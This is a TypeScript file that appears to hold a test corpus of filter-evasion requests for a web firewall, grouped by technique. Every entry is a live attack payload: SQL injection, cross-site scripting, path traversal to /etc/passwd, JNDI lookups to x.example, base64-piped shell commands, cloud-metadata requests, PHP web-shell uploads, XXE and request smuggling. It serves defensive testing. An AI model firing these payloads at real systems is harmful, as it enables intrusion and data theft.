// biome-ignore-all lint/suspicious/noTemplateCurlyInString: such marks are what attacks and templates are written with
import type { Asked } from './ask.ts'
import { encoded } from './ask.ts'

/** One way around a filter. */
export interface Evasion {
  readonly technique:
    | 'encoding'
    | 'overlong UTF-8'
    | 'parameter pollution'
    | 'multipart'
    | 'framing'
    | 'case and comments'
    | 'type of body'
    | 'place'
  readonly what: string
  readonly request: Asked
}

const query = (value: string): Asked => ({ target: `/shop?q=${value}` })
const value = (text: string): Asked => query(encoded(text))

function multipart(boundary: string, type: string, parts: readonly string[], end = `--${boundary}--\r\n`): Asked {
  return { headers: [['Content-Type', type]], body: `${parts.map((part) => `--${boundary}\r\n${part}\r\n`).join('')}${end}` }
}

const form = (parts: readonly string[]) => multipart('edge', 'multipart/form-data; boundary=edge', parts)
const body = (type: string, text: string, headers: readonly (readonly [string, string])[] = []): Asked => ({
  headers: [['Content-Type', type], ...headers],
  body: text,
})

const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('latin1')
const utf8 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1')
const fullWidth = (text: string): string =>
  utf8(text.replace(/[!-~]/g, (unit) => String.fromCharCode(unit.charCodeAt(0) + 0xfee0)))

const of = (technique: Evasion['technique'], rows: readonly (readonly [string, Asked])[]): Evasion[] =>
  rows.map(([what, request]) => ({ technique, what, request }))

/** Attacks dressed up, by the kind of dress. Written from what is published about evading filters; each is a request of its own. */
export const EVASIONS: readonly Evasion[] = [
  ...of('encoding', [
    ['SQL encoded once', value("' or 1=1--")],
    ['SQL encoded twice', query('%2527%2520or%25201%253D1--')],
    ['SQL encoded three times', query('%252527%252520or%2525201%25253D1--')],
    ['SQL with plus for spaces', query('1+union+select+null,null--+-')],
    ['SQL with percent-u', query('%u0027%u0020or%u00201=1--')],
    ['SQL with full-width letters', value(fullWidth("' or 1=1--"))],
    ['SQL with a full-width quote', value(`x${utf8('＇')} or 1=1--`)],
    ['markup encoded once', value('<script>alert(1)</script>')],
    ['markup encoded twice', query('%253Cscript%253Ealert(1)%253C/script%253E')],
    ['markup with percent-u', query('%u003cimg src=x onerror=alert(1)%u003e')],
    ['markup in decimal references', value('&#60;img src=x onerror=alert(1)&#62;')],
    ['markup in hexadecimal references without ends', value('&#x3Cimg src=x onerror=alert(1)&#x3E')],
    ['markup in JavaScript escapes', value('\\u003cimg src=x onerror=alert(1)\\u003e')],
    ['markup in octal escapes', value('\\74img src=x onerror=alert(1)\\76')],
    ['markup in UTF-7', value('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
    ['markup in full-width signs', value(fullWidth('<script>alert(1)</script>'))],
    ['an address with references inside', value('<a href="jav&#x09;ascript:alert(1)">x</a>')],
    ['an address with names of characters', value('<a href=javascript&colon;alert&lpar;1&rpar;>x</a>')],
    ['an address in base64', value('<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">')],
    ['a path encoded once', query('%2e%2e%2f%2e%2e%2fetc%2fpasswd')],
    ['a path encoded twice', query('%252e%252e%252fetc%252fpasswd')],
    ['a path with backslashes', query('..%5c..%5cwindows%5cwin.ini')],
    ['a path with steps doubled', query('....//....//etc/passwd')],
    ['a path with semicolons', { target: '/static/..;/..;/manager/html' }],
    ['a path with a NUL', query('../../etc/passwd%00.png')],
    ['a lookup in pieces', value('${${lower:j}${upper:n}${::-d}i:ldap://x.example/a}')],
    ['a lookup with default values', value('${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}')],
    ['a lookup encoded', query('%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D')],
    ['a command with hexadecimal quotes', value("$'\\x63\\x61\\x74' /etc/hosts")],
    ['a command in base64', value('echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh')],
    ['an address as one number', value('http://2130706433/admin')],
    ['an address in hexadecimal', value('http://0x7f.0x0.0x0.0x1/')],
    ['an address in octal', value('http://0177.0.0.01/')],
    ['an address with a name before it', value('http://www.example.com@169.254.169.254/latest/meta-data/')],
    ['an address of IPv6 that maps IPv4', value('http://[::ffff:127.0.0.1]/')],
  ]),
  ...of('overlong UTF-8', [
    ['a slash in two bytes', query('..%c0%af..%c0%afetc/passwd')],
    ['a dot in two bytes', query('%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd')],
    ['a slash in three bytes', query('..%e0%80%af..%e0%80%afetc/passwd')],
    ['a dot in four bytes', query('%f0%80%80%ae%f0%80%80%ae/etc/passwd')],
    ['a quote in two bytes', query('1%c0%a7 or 1=1--')],
    ['a bracket in two bytes', query('%c0%bcscript%c0%bealert(1)')],
    ['a backslash in two bytes', query('..%c1%9c..%c1%9cwindows')],
    ['a percent-c0 that is no byte', query('..%c0%9v..%c0%9vetc')],
  ]),
  ...of('parameter pollution', [
    ['SQL over two values, joined by a comma', { target: `/shop?id=1&id=${encoded('/*')}*/union/*&id=*/select/*&id=*/1` }],
    ['SQL over two names', { target: `/shop?a=${encoded("1' union /*")}&b=${encoded('*/ select 1,2--')}` }],
    ['the attack in the second of two', { target: `/shop?id=1&id=${encoded("' or 1=1--")}` }],
    [
      'the attack in a form, a good value in the query',
      { target: '/shop?id=1', ...body('application/x-www-form-urlencoded', `id=${encoded("' or 1=1--")}`) },
    ],
    ['the attack in a name', { target: `/shop?${encoded("' or 1=1--")}=1` }],
    ['an array for a value', { target: '/login?user=admin&pass[$ne]=1' }],
    ['separated by semicolons', { target: `/shop?a=1;id=${encoded('<script>alert(1)</script>')}` }],
    ['the attack in a nested name', { target: `/shop?filter[${encoded("x'); drop table users;--")}]=1` }],
  ]),
  ...of('multipart', [
    ['the attack in a field', form(['Content-Disposition: form-data; name="q"\r\n\r\n\' or 1=1--'])],
    ['a name without quotes', form(['Content-Disposition: form-data; name=q\r\n\r\n<script>alert(1)</script>'])],
    ['a name in single quotes', form(["Content-Disposition: form-data; name='q'\r\n\r\n<script>alert(1)</script>"])],
    ['a web shell by its name', form(['Content-Disposition: form-data; name="f"; filename="a.php"\r\n\r\nx'])],
    ['a web shell with two endings', form(['Content-Disposition: form-data; name="f"; filename="a.php.jpg"\r\n\r\nx'])],
    ['a web shell with a dot at the end', form(['Content-Disposition: form-data; name="f"; filename="a.php."\r\n\r\nx'])],
    ['a web shell with a stream', form(['Content-Disposition: form-data; name="f"; filename="a.php::$DATA"\r\n\r\nx'])],
    [
      'a web shell with two names',
      form(['Content-Disposition: form-data; name="f"; filename="a.jpg"; filename="a.php"\r\n\r\nx']),
    ],
    ['a web shell by an extended name', form(['Content-Disposition: form-data; name="f"; filename*=utf-8\'\'a.php\r\n\r\nx'])],
    ['a web shell in upper case', form(['Content-Disposition: form-data; name="f"; filename="a.PhP"\r\n\r\nx'])],
    [
      'code in a picture',
      form([
        'Content-Disposition: form-data; name="f"; filename="a.gif"\r\nContent-Type: image/gif\r\n\r\nGIF89a<?php system($_GET[1]);',
      ]),
    ],
    [
      'a boundary given twice',
      multipart('edge', 'multipart/form-data; boundary=other; boundary=edge', [
        'Content-Disposition: form-data; name="q"\r\n\r\n\' or 1=1--',
      ]),
    ],
    [
      'a boundary in quotes',
      multipart('edge', 'multipart/form-data; boundary="edge"', ['Content-Disposition: form-data; name="q"\r\n\r\n\' or 1=1--']),
    ],
    [
      'no end',
      multipart(
        'edge',
        'multipart/form-data; boundary=edge',
        ['Content-Disposition: form-data; name="q"\r\n\r\n\' or 1=1--'],
        '',
      ),
    ],
    [
      'a part in base64',
      form([
        'Content-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
      ]),
    ],
    [
      'line feeds alone',
      body('multipart/form-data; boundary=edge', '--edge\nContent-Disposition: form-data; name="q"\n\n\' or 1=1--\n--edge--\n'),
    ],
    [
      'text before the first part',
      body(
        'multipart/form-data; boundary=edge',
        '\' or 1=1--\r\n--edge\r\nContent-Disposition: form-data; name="q"\r\n\r\nx\r\n--edge--\r\n',
      ),
    ],
    ['a header folded', form(['Content-Disposition: form-data;\r\n name="q"\r\n\r\n<script>alert(1)</script>'])],
    [
      'a charset for the field',
      form([
        'Content-Disposition: form-data; name="_charset_"\r\n\r\nutf-7',
        'Content-Disposition: form-data; name="q"\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
      ]),
    ],
  ]),
  ...of('framing', [
    ['a transfer encoding that is none', { headers: [['Transfer-Encoding', 'xchunked']], body: 'q=1' }],
    ['a transfer encoding with a comma', { headers: [['Transfer-Encoding', 'chunked, identity']], body: 'q=1' }],
    [
      'a length beside chunks',
      {
        headers: [
          ['Transfer-Encoding', 'chunked'],
          ['Content-Length', '4'],
        ],
        body: 'q=1',
      },
    ],
    [
      'two lengths',
      {
        headers: [
          ['Content-Length', '3'],
          ['Content-Length', '0'],
        ],
        body: 'q=1',
      },
    ],
    ['a length with a sign', { headers: [['Content-Length', '+3']], body: 'q=1' }],
    [
      'two hosts',
      {
        headers: [
          ['Host', 'a.example.com'],
          ['Host', 'b.example.com'],
        ],
      },
    ],
    ['a request inside of a body', body('text/plain', 'x\r\nGET /admin HTTP/1.1\r\nHost: a\r\n\r\n')],
    ['a header inside of a value', value('x\r\nSet-Cookie: admin=1')],
    [
      'a path for another server',
      {
        headers: [
          ['X-Original-URL', '/admin'],
          ['X-Rewrite-URL', '/admin'],
        ],
      },
    ],
    ['a compressed body', body('application/json', '\x1f\x8b\x08\0\0\0', [['Content-Encoding', 'gzip']])],
    ['another method in a header', { headers: [['X-HTTP-Method-Override', 'DELETE']], body: 'q=1' }],
  ]),
  ...of('case and comments', [
    ['mixed case', value('1 uNiOn aLl SeLeCt 1,2')],
    ['comments for spaces', value('1/**/union/**/all/**/select/**/1,2')],
    ['comments that MySQL runs', value('1 /*!50000union*/ /*!50000select*/ 1,2')],
    ['comments in a comment', value('1/*/*/union/*/*/select 1,2--')],
    ['line comments for spaces', value('1--x\nunion--x\nselect 1,2')],
    ['hash comments for spaces', value('1#x\nunion#x\nselect 1,2')],
    ['control characters for spaces', query('1%0bunion%0cselect%a01,2')],
    ['parentheses for spaces', value('(1)union(select(1),(2))')],
    ['scientific numbers', value('1e0union select 1,2')],
    ['a condition without equals', value("1' or 2 between 1 and 3-- -")],
    ['a condition with likes', value("x' or 'a' like 'a")],
    ['logic in signs', value("x' || 1=1 -- -")],
    ['strings in hexadecimal', value('1 and (select 0x61646d696e)=0x61646d696e')],
    ['strings of characters', value('1 and char(65,66)=concat(char(65),char(66))')],
    ['a query in a function', value('1-(select*from(select(sleep(5)))a)')],
    ['tags in mixed case', value('<ScRiPt>alert(1)</sCrIpT>')],
    ['tags with slashes', value('<svg/onload=alert(1)>')],
    ['tags that are not closed', value('<img src=x onerror=alert(1)//')],
    ['tags in tags', value('<scr<script>ipt>alert(1)</scr</script>ipt>')],
    ['events by backquotes', value('<details/open/ontoggle=alert`1`>')],
    ['events without a tag', value('" autofocus onfocus=alert(1) x="')],
    ['script without letters', value('[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]()')],
    ['script by names in pieces', value("';window['al'+'ert'](1)//")],
    ['commands in quotes', value(";c'a't /etc/hosts")],
    ['commands with backslashes', value(';c\\at /etc/hosts')],
    ['commands with wildcards', value(';/???/c?t /???/p?ss??')],
    ['commands with variables', value(';cat${IFS}/etc/hosts')],
    ['commands with braces', value(';{cat,/etc/hosts}')],
    ['commands with nothing in them', value(";w$@hoami;wh''oami")],
    ['commands of Windows with carets', value('& w^h^o^a^m^i')],
    ['PHP with a comment', value('system/**/("id")')],
    ['PHP by names in pieces', value("('sys'.'tem')('id');")],
    ['a template without braces for code', value('{%if 7*7==49%}x{%endif%}')],
    ['a template by attributes', value("{{''|attr('__class__')}}")],
  ]),
  ...of('type of body', [
    ['JSON', body('application/json', '{"q":"\' or 1=1--"}')],
    ['JSON with escapes', body('application/json', '{"q":"\\u0027 or 1=1--"}')],
    ['JSON by a name', body('application/json', '{"\' or 1=1--":1}')],
    ['JSON deep inside', body('application/json', '{"a":{"b":[1,{"c":"<script>alert(1)</script>"}]}}')],
    ['JSON as text', body('text/plain', '{"q":"<script>alert(1)</script>"}')],
    ['JSON without a type', { headers: [], body: '{"q":"<script>alert(1)</script>"}' }],
    ['JSON of another name', body('application/vnd.api+json', '{"q":"\' or 1=1--"}')],
    ['JSON with an operator', body('application/json', '{"user":"admin","pass":{"$ne":1}}')],
    ['JSON with a prototype', body('application/json', '{"__proto__":{"admin":true}}')],
    ['XML', body('application/xml', "<a><b>' or 1=1--</b></a>")],
    ['XML in an attribute', body('text/xml', '<a b="&lt;script&gt;alert(1)&lt;/script&gt;"/>')],
    ['XML with an entity', body('application/xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')],
    ['XML in UTF-16', body('application/xml', utf16('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'))],
    ['XML with CDATA', body('application/xml', "<a><![CDATA[' or 1=1--]]></a>")],
    ['a form as text', body('text/plain', `q=${encoded('<script>alert(1)</script>')}`)],
    ['a form in another charset', body('application/x-www-form-urlencoded; charset=ibm037', 'q=%7d%40%96%99%40%f1%7e%f1')],
    ['GraphQL', body('application/json', '{"query":"{ user(id: \\"1\' or 1=1--\\") { name } }"}')],
    ['an object of Java', body('application/octet-stream', '\xac\xed\x00\x05sr\x00\x11java.util.HashMap')],
  ]),
  ...of('place', [
    ['in a cookie', { headers: [['Cookie', "session=abc; theme=' or 1=1--"]] }],
    ['in a cookie, encoded', { headers: [['Cookie', `theme=${encoded('<script>alert(1)</script>')}`]] }],
    ['in the name of a cookie', { headers: [['Cookie', '<script>alert(1)</script>=1']] }],
    ['in the referer', { headers: [['Referer', "https://shop.example.com/?q=' union select 1,2--"]] }],
    ['in the user agent', { headers: [['User-Agent', "Mozilla/5.0' and sleep(5)-- -"]] }],
    ['in the address of a proxy', { headers: [['X-Forwarded-For', "127.0.0.1' or sleep(5)-- -"]] }],
    ['in a header of its own', { headers: [['X-Api-Version', '${jndi:ldap://x.example/a}']] }],
    ['in the path', { target: `/item/${encoded("1' or 1=1--")}` }],
    ['in the path, as markup', { target: `/item/${encoded('<script>alert(1)</script>')}` }],
    ['in an absolute target', { target: `http://shop.example.com/?q=${encoded("' or 1=1--")}` }],
    ['after much that is good', value(`${'good '.repeat(2000)}<script>alert(1)</script>`)],
    ['after many words of SQL', value(`${'a,'.repeat(2000)}1 union select 1,2--`)],
    [
      'among many arguments',
      { target: `/shop?${Array.from({ length: 200 }, (_, at) => `a${at}=1`).join('&')}&q=${encoded("' or 1=1--")}` },
    ],
  ]),
]
